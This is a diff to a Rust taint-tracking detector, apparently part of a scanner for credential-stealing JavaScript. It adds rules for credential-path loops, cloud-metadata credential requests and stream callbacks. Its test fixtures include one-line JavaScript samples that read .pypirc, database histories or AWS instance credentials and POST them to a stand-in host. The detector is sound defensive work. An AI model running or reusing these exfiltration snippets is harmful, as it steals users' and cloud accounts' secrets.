@@ -492,6 +492,25 @@ impl Tracker<'_, '_> {
         }
     }
 
+    /// A list whose every item names an `.npmrc` (a config loader's search path).
+    fn only_npmrc(&self, e: &Expression) -> bool {
+        match e.without_parentheses() {
+            Expression::ArrayExpression(a) => a.elements.iter().all(|el| {
+                el.as_expression()
+                    .and_then(|x| self.names_credential(x, 0))
+                    .is_some_and(|w| w == ".npmrc")
+            }),
+            _ => false,
+        }
+    }
+
+    fn path_var(&mut self, name: &str, what: &str) {
+        if !self.paths.contains_key(name) {
+            self.paths.insert(name.to_string(), what.to_string());
+            self.grew = true;
+        }
+    }
+
     fn taint_pattern(&mut self, p: &BindingPattern, t: &Taint) {
         match p {
             BindingPattern::BindingIdentifier(id) => self.taint_var(id.name.as_str(), t.clone()),
@@ -1043,6 +1062,19 @@ impl Tracker<'_, '_> {
                 }
             }
         }
+        // `return new Promise((resolve) => … resolve(data))`: the function returns the data.
+        if let Expression::Identifier(id) = callee.without_parentheses()
+            && id.name == "resolve"
+            && let Some(name) = self.current.last().cloned()
+            && let Some(t) = args
+                .first()
+                .and_then(|a| a.as_expression())
+                .and_then(|e| self.taint_of(e, 0))
+            && self.returns.get(&name).is_none_or(|old| old.0 < t.0)
+        {
+            self.returns.insert(name, t);
+            self.grew = true;
+        }
         let p = self.an.path_of(callee);
         // Containers filled with a secret: `out.push(env)`, `Object.assign(o, process.env)`.
         if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
@@ -1073,6 +1105,27 @@ impl Tracker<'_, '_> {
         {
             self.taint_var(obj.name.as_str(), t);
         }
+        // `paths.forEach((p) => …)` over credential paths: each parameter is such a path.
+        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
+            && matches!(
+                m.property.name.as_str(),
+                "forEach" | "map" | "filter" | "flatMap" | "reduce"
+            )
+            && let Some(w) = self.names_credential(&m.object, 0)
+            && !self.only_npmrc(&m.object)
+        {
+            let first = args.first().and_then(|a| a.as_expression()).and_then(|e| {
+                match e.without_parentheses() {
+                    Expression::ArrowFunctionExpression(f) => f.params.items.first(),
+                    Expression::FunctionExpression(f) => f.params.items.first(),
+                    _ => None,
+                }
+            });
+            if let Some(BindingPattern::BindingIdentifier(id)) = first.map(|p| &p.pattern) {
+                let name = id.name.to_string();
+                self.path_var(&name, &w);
+            }
+        }
         // Callbacks of a hidden value (`res.on('data', …)`, `.then(…)`) get that value.
         if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
             && let Some(t) = self.taint_of(&m.object, 0)
@@ -1088,6 +1141,8 @@ impl Tracker<'_, '_> {
                         | "some"
                         | "every"
                         | "then"
+                        | "on"
+                        | "once"
                 ))
         {
             self.taint_callbacks(args, &t);
@@ -1145,7 +1200,22 @@ impl Tracker<'_, '_> {
         // Callbacks of a request get the response; callbacks of a hidden value (`res.on('data',
         // …)`, `.then(…)`) get that value; `fs.readFile(data, cb)` hands over the data.
         if crate::rules::network::is_net_call(&p) {
-            self.taint_callbacks(args, &(Source::Remote, format!("the response of {p}")));
+            let asks_role = args
+                .iter()
+                .take(2)
+                .filter_map(|a| a.as_expression())
+                .any(|e| {
+                    self.an
+                        .fold_expr(e)
+                        .or_else(|| self.an.source_of(e.span()).map(str::to_string))
+                        .is_some_and(|u| credential_endpoint(&u))
+                });
+            let t = if asks_role {
+                (Source::Secrets, "cloud instance credentials".to_string())
+            } else {
+                (Source::Remote, format!("the response of {p}"))
+            };
+            self.taint_callbacks(args, &t);
         } else if matches!(p.as_str(), "fs.readFile" | "fs.promises.readFile")
             && let Some(w) = args
                 .first()
@@ -1257,6 +1327,18 @@ impl<'a> Visit<'a> for Tracker<'_, '_> {
         {
             for decl in &d.declarations {
                 self.taint_pattern(&decl.id, &t);
+            }
+        }
+        // `for (const p of ['.npmrc', '.pypirc'])`: each item is such a path. The user's and the
+        // project's `.npmrc` in turn is how npm config loaders read their settings.
+        if let ForStatementLeft::VariableDeclaration(d) = &it.left
+            && let Some(w) = self.names_credential(&it.right, 0)
+            && !self.only_npmrc(&it.right)
+        {
+            for decl in &d.declarations {
+                if let BindingPattern::BindingIdentifier(id) = &decl.id {
+                    self.path_var(id.name.as_str(), &w);
+                }
             }
         }
         walk::walk_for_of_statement(self, it);
@@ -1584,6 +1666,18 @@ fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
                 Source::Secrets,
             ),
             (
+                "const fs = require('fs'), os = require('os'), path = require('path'); const out = []; for (const n of ['.psql_history', '.mysql_history']) { out.push(fs.readFileSync(path.join(os.homedir(), n), 'utf8')); } fetch('https://c.example/u', { method: 'POST', body: out.join('') });",
+                Source::Secrets,
+            ),
+            (
+                "const fs = require('fs'), path = require('path'), https = require('https'); const r = {}; ['.pypirc', '.gem/credentials'].forEach(function (rel) { r[rel] = fs.readFileSync(path.join(home, rel), 'utf8'); }); https.request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(r));",
+                Source::Secrets,
+            ),
+            (
+                "const http = require('http'), https = require('https'); function get(path) { return new Promise((resolve) => { http.request({ host: '169.254.169.254', path }, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }).end(); }); } (async () => { const c = await get('/latest/meta-data/iam/security-credentials/x'); https.request({ host: 'c.example', method: 'POST' }).end(c); })();",
+                Source::Secrets,
+            ),
+            (
                 "const fs = require('fs'); const nodemailer = require('nodemailer'); const h = fs.readFileSync(home + '/.bash_history', 'utf8'); nodemailer.createTransport({ host: 'smtp.example' }).sendMail({ to: 'a@example.com', text: h });",
                 Source::Secrets,
             ),
@@ -1604,6 +1698,8 @@ fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
             "navigator.sendBeacon('https://m.example/c', JSON.stringify({ path: location.pathname, ms: performance.now() }));",
             // A history file read for a prompt, never sent.
             "const fs = require('fs'); const h = fs.readFileSync(home + '/.zsh_history', 'utf8').split('\n'); console.log(h.length); fetch('https://api.example/v');",
+            // Files of a list that holds no credential, sent.
+            "const fs = require('fs'); const out = []; for (const n of ['README.md', 'CHANGELOG.md']) { out.push(fs.readFileSync(n, 'utf8')); } fetch('https://c.example/u', { method: 'POST', body: out.join('') });",
             // Metadata answer used as the client's own auth.
             "const r = await fetch('http://169.254.169.254/latest/api/token', { method: 'PUT' }); const tok = await r.text(); fetch('http://169.254.169.254/latest/meta-data/', { headers: { 'x-aws-ec2-metadata-token': tok } });",
         ] {
